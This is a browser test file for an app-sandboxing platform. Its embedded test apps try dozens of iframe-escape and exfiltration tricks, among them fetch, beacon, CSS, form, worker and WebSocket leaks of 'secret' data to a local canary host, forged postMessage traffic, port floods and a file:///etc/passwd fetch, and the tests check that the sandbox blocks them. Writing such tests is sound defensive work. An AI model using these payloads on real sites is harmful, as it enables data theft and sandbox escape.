"""A stranger's app: what it tries, and what it gets."""

import asyncio
import json
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest
from playwright.async_api import Browser, Frame, expect

import callmesh
from tests.browser.people import Person, person
from tests.processes import HubProcess, hub_process

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(120)]

EVIL = """<!doctype html><title>Evil</title><p id="out">working</p>
<script type="module">
const canary = decodeURIComponent("CANARY");
const hub = new URL(import.meta.url).origin;
const tries = {
  parent: () => parent.document.title,
  top: () => top.location.href,
  cookie: () => document.cookie,
  localStorage: () => localStorage.length,
  indexedDB: () => new Promise((yes, no) => {
    const open = indexedDB.open("x"); open.onsuccess = yes; open.onerror = no; }),
  fetchOut: () => fetch(canary),
  fetchHub: () => fetch(`${hub}/api/apps`),
  fetchOther: () => fetch(`${hub}/sdk/app.js`),
  socketOut: () => new Promise((yes, no) => {
    const s = new WebSocket(canary.replace("http", "ws")); s.onopen = yes; s.onerror = no; }),
  socketHub: () => new Promise((yes, no) => {
    const s = new WebSocket(`${hub.replace("http", "ws")}/call/evil/socket`);
    s.onopen = yes; s.onerror = no; }),
  image: () => new Promise((yes, no) => {
    const i = new Image(); i.onload = yes; i.onerror = no; i.src = `${canary}/i.png`; }),
  script: () => import(`${canary}/x.js`),
  popup: () => { if (!open(canary)) throw new Error("no window"); },
  topLocation: () => { top.location.href = canary; },
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
  screen: () => navigator.mediaDevices.getDisplayMedia(),
  place: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
  clipboard: () => navigator.clipboard.readText(),
  pointerLock: () => document.body.requestPointerLock(),
  fullscreen: () => document.documentElement.requestFullscreen(),
  caches: () => caches.open("x"),
  keepalive: () => fetch(canary, { method: "POST", keepalive: true, body: "secret" }),
  noCors: () => fetch(canary, { mode: "no-cors" }),
  request: () => new Promise((yes, no) => {
    const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no;
    x.open("GET", canary); x.send(); }),
  events: () => new Promise((yes, no) => {
    const e = new EventSource(canary); e.onopen = yes; e.onerror = () => { e.close(); no(); }; }),
  transport: () => new WebTransport(canary.replace("http:", "https:")).ready,
  worker: () => working(Worker, `${canary}/w.js`),
  workerOfBlob: () => working(Worker, URL.createObjectURL(new Blob([`fetch("${canary}/w")`]))),
  workerOfData: () => working(Worker, `data:text/javascript,fetch("${canary}/w")`),
  sharedWorker: () => working(SharedWorker, `${canary}/w.js`),
  serviceWorker: () => navigator.serviceWorker.register("index.html"),
  font: () => new FontFace("x", `url(${canary}/f)`).load(),
  scriptTag: () => loading("script", { src: `${canary}/s.js` }),
  moduleTag: () => loading("script", { type: "module", src: `${canary}/s.js` }),
  sheet: () => loading("link", { rel: "stylesheet", href: `${canary}/s.css` }),
  srcset: () => loading("img", { srcset: `${canary}/1 1x, ${canary}/2 2x` }),
  video: () => loading("video", { src: `${canary}/v` }),
  audio: () => loading("audio", { src: `${canary}/a` }),
  sibling: () => parent.frames[beside()].document.title,
  siblingPlace: () => parent.frames[beside()].location.href,
  siblingLed: () => { parent.frames[beside()].location = canary; },
  siblingWritten: () => { parent.frames[beside()].name = "mine"; },
};
function working(Kind, address) {
  return new Promise((yes, no) => {
    const worker = new Kind(address);
    worker.onmessage = yes;
    worker.onerror = no;
  });
}
function loading(tag, what) {
  return new Promise((onload, onerror) => {
    const made = Object.assign(document.createElement(tag), what, { onload, onerror });
    made.onloadedmetadata = onload;
    document.body.append(made);
  });
}
function beside() {
  for (let n = 0; n < parent.frames.length; n++) if (parent.frames[n] !== self) return n;
}
/** What tells nobody whether it went well: only who is called knows. */
const silent = {
  beacon: () => navigator.sendBeacon(canary, "secret"),
  later: () => fetchLater(canary),
  links: () => {
    for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload",
      "prerender", "icon", "manifest"]) {
      for (const as of ["", "script", "fetch", "image"]) {
        const link = Object.assign(document.createElement("link"), { rel, as });
        link.href = `${canary}/${rel}`;
        document.head.append(link);
      }
    }
  },
  speculation: () => {
    const rules = { prefetch: [{ urls: [canary] }], prerender: [{ urls: [canary] }] };
    const text = JSON.stringify(rules);
    document.head.append(Object.assign(document.createElement("script"), {
      type: "speculationrules", text }));
  },
  styles: () => {
    const style = document.createElement("style");
    style.textContent = `@import "${canary}/i.css"; @import url(${canary}/j.css);
      @font-face { font-family: f; src: url(${canary}/f); }
      body { font-family: f; background: url(${canary}/b); cursor: url(${canary}/c), auto;
        border-image: url(${canary}/e) 1; mask: url(${canary}/m#x); filter: url(${canary}/n#x); }
      body::after { content: url(${canary}/d); }`;
    document.head.append(style);
  },
  plugins: () => {
    const shown = document.createElement("div");
    shown.innerHTML = `<object data="${canary}/o"></object><embed src="${canary}/e">
      <iframe srcdoc="<img src='${canary}/s'><script>fetch('${canary}/t')</` +
      `script>"></iframe><iframe src="data:text/html,<img src=${canary}/u>"></iframe>
      <svg><image href="${canary}/v"/><use href="${canary}/w#x"/></svg>
      <picture><source srcset="${canary}/x"><img></picture>
      <input type="image" src="${canary}/y"><video poster="${canary}/z"></video>
      <audio><source src="${canary}/0"><track src="${canary}/1"></audio>
      <a id="ping" href="#here" ping="${canary}/ping">here</a>`;
    document.body.append(shown);
    document.getElementById("ping").click();
  },
  dialogs: () => { alert("x"); confirm("x"); prompt("x"); print(); },
  forged: () => {
    const all = [null, "hello", { callmesh: "port", stateVersion: 1 }, { callmesh: "said" },
      { callmesh: "look", variables: { accent: `url(${canary}/look)` } },
      { callmesh: "hello", resource: "r0other" }, ["welcome"], new Uint8Array(1000)];
    const others = [top, parent];
    for (let n = 0; n < parent.frames.length; n++) others.push(parent.frames[n]);
    for (const other of others.filter((other) => other !== self)) {
      for (const one of all) other.postMessage(one, "*", [new MessageChannel().port1]);
    }
  },
  bytes: () => {
    for (let n = 0; n < 100; n++) parent.postMessage(new Uint8Array(1e6), "*");
    for (let n = 0; n < 20_000; n++) parent.postMessage({ callmesh: "said", n }, "*");
  },
};
const found = { origin: self.origin };
for (const [name, attempt] of Object.entries(tries)) {
  const late = new Promise((_, no) => setTimeout(no, 3000, new Error("late")));
  try { await Promise.race([attempt(), late]); found[name] = "WORKED"; }
  catch { found[name] = "refused"; }
}
for (const attempt of Object.values(silent)) { try { attempt(); } catch {} }
const form = document.createElement("form");
form.innerHTML = `<input name="x" value="secret"><button formaction="${canary}/b">Go</button>`;
document.body.append(form);
for (const method of ["get", "post"]) {
  for (const action of [canary, `${canary}/x`, `${hub}/api/apps`, location.href, ""]) {
    for (const target of ["", "_self", "_top", "_parent", "_blank", "named"]) {
      Object.assign(form, { method, action, target });
      try { form.submit(); } catch {}
      try { form.requestSubmit(); } catch {}
      try { form.querySelector("button").click(); } catch {}
    }
  }
}
window.submits = 0;
window.ask = () => {
  form.onsubmit = event => { event.preventDefault(); window.submits++; };
  form.requestSubmit(); // Enter in a field, or its button
};
const frame = document.createElement("iframe");
frame.src = canary; document.body.append(frame);
window.found = found;
document.getElementById("out").textContent = "done";
</script>"""

# Leads its own frame away, in every way there is.
WANDERER = """<!doctype html><title>Wanderer</title><a id="link">away</a><p id="out">working</p>
<script type="module">
import { connect } from "callmesh/app";
await connect();
const link = document.getElementById("link");
window.ways = {
  "location": (to) => { location = to; },
  "replace": (to) => location.replace(to),
  "open": (to) => open(to, "_self"),
  "navigation": (to) => navigation.navigate(to),
  "link": (to) => { link.href = to; link.click(); },
  "refresh": (to) => {
    const meta = document.createElement("meta");
    Object.assign(meta, { httpEquiv: "refresh", content: `0; url=${to}` });
    document.head.append(meta);
  },
  "blob": (to) => {
    const page = new Blob([`<script>fetch("${to}")</` + "script>"], { type: "text/html" });
    location = URL.createObjectURL(page);
  },
  "data": (to) => { location = `data:text/html,<script>fetch("${to}")</` + "script>"; },
  "anew": () => location.reload(),
};
document.getElementById("out").textContent = "connected";
</script>"""

# Says what it was given in its address to a host of its own.
LEAVER = """<!doctype html><title>Leaver</title><p id="out">working</p>
<script>
  const said = location.hash.slice(1) || "nothing";
  new Image().src = `CANARY/${said}/image`;
  fetch(`CANARY/${said}`, { mode: "no-cors" }).finally(() => { out.textContent = "said"; });
</script>"""

# Asks for the port as the SDK does, then speaks rubbish over it.
RUDE = """<!doctype html><title>Rude</title><p>rude</p><script>
addEventListener("message", ({ data, ports: [port] }) => {
  if (!port) return;
  window.received = [];
  port.onmessage = ({ data }) => window.received.push(data);
  port.postMessage(new Uint8Array([0xde, 0xad, 0xbe, 0xef]));
  port.postMessage("text"); port.postMessage({ a: 1 }); port.postMessage(new Uint8Array(3e6));
});
parent.postMessage({ callmesh: "hello" }, "*");
parent.postMessage("hello", "*"); parent.postMessage({ callmesh: 5 }, "*");
parent.postMessage(null, "*");
</script>"""


# Uses what its manifest does not ask for: by the SDK, and then by hand over ports of its own.
GRABBY = """<!doctype html><title>Grabby</title><p id="out">working</p><script type="module">
import { connect } from "callmesh/app";
const canary = decodeURIComponent("CANARY");
const resource = await connect();
window.found = {};
const tries = {
  stream: () => resource.stream("pen"),
  files: () => resource.files,
  participants: () => resource.participants,
  onParticipants: () => resource.onParticipants(() => 0),
  fetch: () => resource.fetch(canary),
};
for (const [name, attempt] of Object.entries(tries)) {
  try { await attempt(); found[name] = "WORKED"; }
  catch (error) { found[name] = `${error.reason} ${error.message}`; }
}
const text = (s) => {
  const b = new TextEncoder().encode(s);
  return [0xda, b.length >> 8, b.length & 255, ...b];
};
const BYTES = [56n, 48n, 40n, 32n, 24n, 16n, 8n, 0n];
const number = (n) => [0xcf, ...BYTES.map((at) => Number(BigInt(n) >> at & 255n))];
const pack = (v) =>
  v === null ? [0xc0] : v === false ? [0xc2] : v === true ? [0xc3]
  : typeof v === "number" ? number(v)
  : typeof v === "string" ? text(v)
  : v instanceof Uint8Array ? [0xc4, v.length, ...v]
  : [0xdc, v.length >> 8, v.length & 255, ...v.flatMap(pack)];
const bundle = (...all) => new Uint8Array(pack(all));
const HELLO = ["hello", 1, "", "", null, null, null, null, 0, [], ""];
/** What the page says to messages over a port of their own. */
const say = (bundles) => new Promise((resolve) => {
  addEventListener("message", function listen({ ports: [port] }) {
    if (!port) return;
    removeEventListener("message", listen);
    let heard = "", handled = 0;
    const done = () => resolve(heard);
    port.onmessage = ({ data }) => {
      port.postMessage(bundle(["ping", ++handled])); // it says the next when this is handled
      heard += new TextDecoder("latin1").decode(data);
      if (/error|denied/.test(heard)) done();
    };
    port.postMessage(bundle(HELLO));
    for (const one of bundles) port.postMessage(one);
    setTimeout(done, 5000);
  });
  parent.postMessage({ callmesh: "hello" }, "*");
});
const mine = resource.id, other = "r0other", no = new Uint8Array();
const me = resource.me.id, now = Date.now() * 1000;
const taken = (r, name) => ["taken", [], r, name, "reliable", 1, 0, "open", 0, false, 0];
const write = (state, writer, key = "k", value = 1) =>
  ["write", [[state, [[key, now, writer, value]], 0]]];
const forgeries = {
  "stream": [taken(mine, "pen")],
  "files": [taken(mine, ".files")],
  "stream of another": [taken(other, "pen")],
  "message of another": [["stream", [], other, "pen", "reliable", 1, false, no, 1, 0, 1]],
  "fetch": [["fetch", 1, mine, "GET", canary, [], no]],
  "fetch for another": [["fetch", 1, other, "GET", canary, [], no]],
  "state of another": [write(`state/${other}`, me)],
  "the call's own": [write("call", me)],
  "the roster": [write("roster", me)],
  "in another's name": [write(`state/${mine}`, "p0other")],
  "no value": [write(`state/${mine}`, me, "k", new Uint8Array(1))],
  "no key": [write(`state/${mine}`, me, "a//b")],
  "command": [["command", "c1", "remove", "u1", ""]],
  "ticket": [["ticket", "", 0]],
  "signal": [["signal", "p0other", "{}"]],
  "letter": [["letter", "p0other", 1, true, no, new Uint8Array(64)]],
  "as a hub": [["welcome", 1, "x", "p1", "p1", "u1", "x", "host", 1, "", "", null]],
};
window.hellos = () => {
  for (let n = 0; n < 100; n++) parent.postMessage({ callmesh: "hello" }, "*");
};
const pings = bundle(...Array.from({ length: 1000 }, () => ["ping", 0]));
const floods = { "flood": [100, pings] };
window.forge = (name) => {
  const [number, one] = floods[name] ?? [1, bundle(...(forgeries[name] ?? []))];
  return say(Array.from({ length: number }, () => one));
};
document.getElementById("out").textContent = "connected";
</script>"""

# Has a peer connection call a server.
CALLER = """<!doctype html><title>Caller</title><p id="out">working</p><script type="module">
const out = document.getElementById("out");
window.dial = async (port) => {
  const iceServers = [{
    urls: `turn:127.0.0.1:${port}`, username: "everything that it knows", credential: "x" }];
  const peer = new RTCPeerConnection({ iceServers });
  peer.createDataChannel("x");
  await peer.setLocalDescription();
};
out.textContent = "ready";
</script>"""

FETCHER = """<!doctype html><title>Fetcher</title><p id="out">working</p><script type="module">
import { connect } from "callmesh/app";
window.resource = await connect();
document.getElementById("out").textContent = "connected";
</script>"""


async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A host that answers with what it was asked for."""
    line = (await reader.readuntil(b"\r\n\r\n")).split(b"\r\n")[0]
    writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n%b" % (len(line), line))
    writer.close()


@pytest.fixture(scope="module")
async def friend(anyio_backend: str) -> AsyncIterator[str]:
    """An address to fetch from."""
    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"


class Canary:
    """Counts who calls home; not who connects and says nothing, as Chromium does beforehand."""

    def __init__(self) -> None:
        self.hits: list[bytes] = []

    async def take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if said := await reader.readline():
            self.hits.append(said)
        writer.close()


@pytest.fixture(scope="module")
async def canary(anyio_backend: str) -> AsyncIterator[tuple[Canary, str]]:
    canary = Canary()
    server = await asyncio.start_server(canary.take, "127.0.0.1", 0)
    async with server:
        yield canary, f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"


@pytest.fixture(scope="module")
def hub(
    tmp_path_factory: pytest.TempPathFactory, canary: tuple[Canary, str], friend: str
) -> Iterator[HubProcess]:
    folder = tmp_path_factory.mktemp("apps")
    apps = []
    asks = {
        "fetcher": {"capabilities": ["fetch"], "hosts": [friend]},
        "leaver": {"hosts": [canary[1]]},
    }
    pages = {"evil": EVIL, "rude": RUDE, "fetcher": FETCHER, "grabby": GRABBY}
    pages |= {"wanderer": WANDERER, "leaver": LEAVER, "caller": CALLER}
    for name, html in pages.items():
        app = folder / name
        app.mkdir()
        manifest = {
            "id": name, "name": name.capitalize(), "version": "1", **asks.get(name, {}),
        }  # fmt: skip
        (app / "manifest.json").write_text(json.dumps(manifest))
        (app / "index.html").write_text(html.replace("CANARY", canary[1]))
        apps.append(app)
    with hub_process(folder / "data", apps=tuple(apps)) as hub:
        yield hub


async def test_an_evil_app_gets_out_nowhere(
    browser: Browser, hub: HubProcess, canary: tuple[Canary, str]
) -> None:
    """[A1]"""
    async with person(browser, "Ada", permissions=["camera"]) as ada:
        dialogs: list[str] = []
        ada.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        await ada.join(hub.call("evil"), role="host")
        await ada.add("Poll")
        await expect(ada.app("Poll").get_by_text("Do you agree?")).to_be_visible()
        await ada.add("Evil")
        await expect(ada.app("Evil").get_by_text("done")).to_be_visible(timeout=60_000)
        found: dict[str, Any] = await ada.in_app("Evil", "window.found")
        assert found.pop("origin") == "null"
        assert {name for name, outcome in found.items() if outcome == "WORKED"} == set()
        await ada.page.wait_for_timeout(500)
        assert canary[0].hits == []
        assert len(ada.page.context.pages) == 1, "a form has opened a window"
        assert await ada.in_app("Evil", "location.search") == ""
        assert await ada.in_app("Evil", "(ask(), submits)") == 1, "a form works within the app"
        assert dialogs == []
        frame = ada.page.locator('iframe[title="Evil"]')
        assert await frame.get_attribute("sandbox") == "allow-scripts allow-forms allow-downloads"
        assert await frame.get_attribute("allow") == ""
        assert await ada.in_call("call.link") == "joined"
        await ada.tab("Poll").click()
        await ada.app("Poll").get_by_label("Yes").check()
        await expect(ada.app("Poll").get_by_text("1 vote", exact=True)).to_be_visible()


WAYS = (
    "location", "replace", "open", "navigation", "link", "refresh", "blob", "data", "anew",
)  # fmt: skip


async def test_an_app_that_leads_its_frame_away_is_ended(
    browser: Browser, hub: HubProcess, canary: tuple[Canary, str]
) -> None:
    """[A1, A25] Wherever it goes, and it alone; nothing comes there."""
    async with person(browser, "Ada") as ada:
        await ada.join(hub.call("away"), role="host")
        console: list[str] = []
        ada.page.on("console", lambda message: console.append(message.text))
        folder = await ada.page.evaluate(
            """async () => (await (await fetch("/api/apps")).json())
                .find(({ id }) => id === "leaver").base"""
        )
        another = f"{hub.address}{folder}index.html"
        await ada.add("Wanderer")
        gone = ada.page.get_by_role("alert").filter(has_text="wanted to go to another page")
        for way in WAYS:
            for to in (f"{canary[1]}/{way}", f"{another}#{way}"):
                await expect(ada.app("Wanderer").get_by_text("connected")).to_be_visible()
                console.clear()
                await (await frame_of(ada, "Wanderer")).evaluate(
                    "([way, to]) => void setTimeout(ways[way], 0, to)", [way, to]
                )
                await expect(gone, f"{way} {to}").to_be_visible()
                assert [line for line in console if "(A25)" in line], way
                await gone.get_by_role("button", name="Start it again").click()
        assert canary[0].hits == []
        assert await ada.in_call("call.link") == "joined"

        await ada.add("Leaver")  # which may, by itself
        await expect(ada.app("Leaver").get_by_text("said")).to_be_visible()
        assert {hit.split()[1] for hit in canary[0].hits} == {b"/nothing", b"/nothing/image"}
        canary[0].hits.clear()


async def test_a_peer_connection_gets_out(browser: Browser, hub: HubProcess) -> None:
    """[A1] As docs/security.md says: by WebRTC, also of an app that asks for nothing."""
    heard: asyncio.Queue[bytes] = asyncio.Queue()

    class Listener(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, addr: object) -> None:
            heard.put_nowait(data)

    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        Listener, local_addr=("127.0.0.1", 0)
    )
    try:
        async with person(browser, "Ada") as ada:
            await ada.join(hub.call("dials"), role="host")
            await ada.add("Caller")
            await expect(ada.app("Caller").get_by_text("ready")).to_be_visible()
            port = transport.get_extra_info("sockname")[1]
            await (await frame_of(ada, "Caller")).evaluate("port => dial(port)", port)
            async with asyncio.timeout(20):
                assert await heard.get()
    finally:
        transport.close()


async def test_rubbish_on_the_port_ends_that_frame_alone(browser: Browser, hub: HubProcess) -> None:
    """[A2, A5]"""
    async with person(browser, "Ada") as ada, callmesh.join(hub.call("rude"), name="Pia") as pia:
        await ada.join(hub.call("rude"), role="host")
        console: list[str] = []
        ada.page.on("console", lambda message: console.append(message.text))
        await ada.add("Poll")
        await ada.add("Rude")
        await expect(ada.page.get_by_text("stopped").first).to_be_visible()
        assert [line for line in console if "rude was stopped (bad_message): not a" in line]
        await ada.tab("Poll").click()
        await ada.app("Poll").get_by_label("Yes").check()
        await expect(ada.app("Poll").get_by_text("1 vote", exact=True)).to_be_visible()
        await pia.until(lambda: len(pia.participants) == 2)
        await pia.until(lambda: all(p.here for p in pia.participants.values()))
        await ada.until_call("call.status === 'synced'")


async def test_a_port_is_given_to_the_frame_that_asks_and_to_nobody_else(
    browser: Browser, hub: HubProcess
) -> None:
    """[A2] The page itself, or a frame it did not make, says hello in vain."""
    async with person(browser, "Ada") as ada:
        await ada.join(hub.call("forged"), role="host")
        await ada.add("Poll")
        await expect(ada.app("Poll").get_by_text("Do you agree?")).to_be_visible()
        ports = await ada.page.evaluate(
            """async () => {
                let ports = 0;
                addEventListener("message", event => { ports += event.ports.length; });
                const { port1 } = new MessageChannel();
                window.postMessage("a port", "*", [port1]);
                await new Promise(done => setTimeout(done, 100));
                if (ports !== 1) return "the listener is deaf";
                ports = 0;
                const other = document.createElement("iframe");
                other.sandbox = "allow-scripts";
                document.body.append(other);
                window.postMessage({ callmesh: "hello" }, "*");
                dispatchEvent(new MessageEvent("message", {
                    data: { callmesh: "hello" }, source: other.contentWindow,
                }));
                await new Promise(done => setTimeout(done, 500));
                return ports;
            }"""
        )
        assert ports == 0


async def test_an_app_that_hangs_is_started_again(browser: Browser, hub: HubProcess) -> None:
    """[A24] It alone, with its state; and one that never says hello."""
    async with person(browser, "Ada") as ada:
        await ada.join(hub.call("hangs"), role="host")
        await ada.add("Poll")
        await ada.in_call("call.resources.all()[0].state.set('question', 'Why?')")
        await expect(ada.app("Poll").get_by_text("Why?")).to_be_visible()
        await ada.in_app("Poll", "() => void setTimeout(() => { for (;;); })")
        alert = ada.page.get_by_role("alert").filter(has_text="does not answer")
        await expect(alert).to_be_visible(timeout=20_000)
        await alert.get_by_role("button", name="Start it again").click()
        await expect(ada.app("Poll").get_by_text("Why?")).to_be_visible()
        await expect(alert).to_have_count(0)
        await ada.add("Caller")
        mute = ada.page.get_by_role("alert").filter(has_text="has not started")
        await expect(mute).to_be_visible(timeout=20_000)
        await mute.get_by_role("button", name="Start it again").click()
        await expect(mute).to_have_count(0)


async def test_a_frame_sees_its_own_resource_alone(browser: Browser, hub: HubProcess) -> None:
    """[A2, A3, R1] Two polls: neither knows of the other, nor of the call's own State."""
    async with person(browser, "Ada") as ada:
        await ada.join(hub.call("own"), role="host")
        await ada.add("Poll")
        await ada.in_call("call.resources.all()[0].state.set('question', 'Do you agree?')")
        await ada.add("Poll")
        await expect(ada.app("Poll 2").get_by_text("Do you agree?")).to_be_visible()
        await ada.app("Poll 2").get_by_label("No").check()
        await expect(ada.app("Poll 2").get_by_text("1 vote", exact=True)).to_be_visible()
        await ada.tab("Poll").first.click()
        await expect(ada.app("Poll").get_by_text("0 votes", exact=True)).to_be_visible()
        keys = await ada.in_app(
            "Poll",
            """async () => {
                const { connect } = await import("callmesh/app");
                return (await connect()).state.keys().sort();
            }""",
        )
        assert keys == ["question"]


async def test_an_app_knows_where_it_is_shown(browser: Browser, hub: HubProcess) -> None:
    """[A18]"""
    look = """async () => {
        const { connect } = await import("callmesh/app");
        window.resource = await connect();
        window.told = [];
        resource.onSurroundings(now => told.push(now));
    }"""
    async with person(browser, "Ada", locale="en-GB", color_scheme="dark") as ada:
        await ada.join(hub.call("shown"), role="host")
        await ada.add("Poll")
        await expect(ada.app("Poll").get_by_text("Do you agree?")).to_be_visible()
        await ada.in_app("Poll", look)
        assert await ada.in_app("Poll", "[resource.locale, resource.theme]") == ["en-GB", "dark"]
        frame = ada.page.locator('iframe[title="Poll"]')
        box = await frame.bounding_box()
        assert box is not None
        size = await ada.in_app("Poll", "resource.size")
        assert size == {"width": round(box["width"]), "height": round(box["height"])}
        await until(ada, "resource.visible")
        themes = (
            "[matchMedia('(prefers-color-scheme: dark)').matches,"
            " document.documentElement.dataset.theme]"
        )
        assert await ada.in_app("Poll", themes) == [True, "dark"]

        await ada.page.emulate_media(color_scheme="light")
        await until(ada, "resource.theme === 'light'")
        assert await ada.in_app("Poll", themes) == [False, "light"]
        await ada.page.set_viewport_size({"width": 900, "height": 700})
        await until(ada, f"resource.size.width < {size['width']}")
        await ada.add("Evil")
        await until(ada, "!resource.visible")
        assert await ada.in_app("Poll", "resource.size.width") > 0
        await ada.tab("Poll").click()
        await until(ada, "resource.visible && told.at(-1).visible")


async def test_an_app_fetches_by_way_of_the_hub(
    browser: Browser, hub: HubProcess, canary: tuple[Canary, str], friend: str
) -> None:
    """[A20] From where its manifest says, and from nowhere else."""
    ask = """(async url => {
        try { return await (await resource.fetch(url)).text(); }
        catch (error) { return error.code; }
    })"""
    async with person(browser, "Ada") as ada:
        await ada.join(hub.call("fetches"), role="host")
        await ada.add("Fetcher")
        await expect(ada.app("Fetcher").get_by_text("connected")).to_be_visible()
        heard = await ada.in_app("Fetcher", f"{ask}('{friend}/a?b=c')")
        assert heard == "GET /a?b=c HTTP/1.1"
        assert await ada.in_app("Fetcher", f"{ask}('{canary[1]}/')") == "denied"
        assert await ada.in_app("Fetcher", f"{ask}('https://127.0.0.1/')") == "denied"
        assert await ada.in_app("Fetcher", f"{ask}('file:///etc/passwd')") == "bad_value"
        assert canary[0].hits == []
        assert ada.problems == []


STOPPED = {
    "stream": "A8", "files": "A8", "stream of another": "A2", "message of another": "A2",
    "fetch": "A8", "fetch for another": "A2", "command": "A2", "ticket": "A2", "signal": "A2",
    "letter": "A2", "flood": "A22", "as a hub": "A5",
}  # fmt: skip
"""By which rule a frame is stopped that goes round the SDK."""
DENIED = {
    "state of another": "A2", "the call's own": "A2", "the roster": "A2",
    "in another's name": "J4", "no value": "S3", "no key": "S4",
}  # fmt: skip


async def test_what_an_app_does_not_ask_for_it_does_not_get(
    browser: Browser, hub: HubProcess, canary: tuple[Canary, str]
) -> None:
    """[A2, A5, A8, A20, A22, J4] By the SDK or by hand: each refusal names its rule."""
    async with person(browser, "Ada") as ada, callmesh.join(hub.call("grabby"), name="Pia") as pia:
        console: list[str] = []
        ada.page.on("console", lambda message: console.append(message.text))
        await ada.join(hub.call("grabby"), role="host")
        await ada.add("Poll")
        await expect(ada.app("Poll").get_by_text("Do you agree?")).to_be_visible()
        await pia.until(lambda: len(pia.resources) == 1)
        (poll,) = pia.resources.values()
        await ada.in_call("call.resources.all()[0].state.set('question', 'Why?')")
        await pia.until(lambda: "question" in poll.state)
        before = dict(poll.state)
        await ada.add("Grabby")
        connected = ada.app("Grabby").get_by_text("connected")
        await expect(connected).to_be_visible()
        found: dict[str, str] = await ada.in_app("Grabby", "found")
        assert list(found) == ["stream", "files", "participants", "onParticipants", "fetch"]
        assert [said for said in found.values() if "no_capability" not in said] == []
        assert [said for said in found.values() if "(A8)" not in said] == []

        for name, rule in DENIED.items():
            heard = await (await frame_of(ada, "Grabby")).evaluate("forge", name)
            assert f"({rule})" in heard, name
        for name, rule in STOPPED.items():
            await expect(connected).to_be_visible()
            console.clear()
            await (await frame_of(ada, "Grabby")).evaluate("name => void forge(name)", name)
            again = ada.page.get_by_role("button", name="Start it again")
            await expect(again, name).to_be_visible(timeout=20_000)
            (said,) = [line for line in console if "grabby was stopped" in line]
            assert f"({rule})" in said, name
            await again.click()
        await expect(connected).to_be_visible()
        console.clear()
        await (await frame_of(ada, "Grabby")).evaluate("hellos()")
        await expect(ada.page.get_by_role("button", name="Start it again")).to_be_visible()
        assert [line for line in console if "grabby was stopped" in line and "(A22)" in line]

        assert canary[0].hits == []
        assert dict(poll.state) == before
        assert sorted(p.name for p in pia.participants.values() if p.here) == ["Ada", "Pia"]
        await ada.until_call("call.status === 'synced'")
        await ada.tab("Poll").click()
        await ada.app("Poll").get_by_label("Yes").check()
        await expect(ada.app("Poll").get_by_text("1 vote", exact=True)).to_be_visible()


async def frame_of(someone: Person, title: str) -> Frame:
    handle = await someone.page.wait_for_selector(f'iframe[title="{title}"]', state="attached")
    frame = handle and await handle.content_frame()
    assert frame
    return frame


async def until(someone: Person, script: str) -> None:
    """Wait until an expression in the frame of the poll is true."""
    frame = await frame_of(someone, "Poll")
    await frame.wait_for_function(f"() => {script}", polling=50)
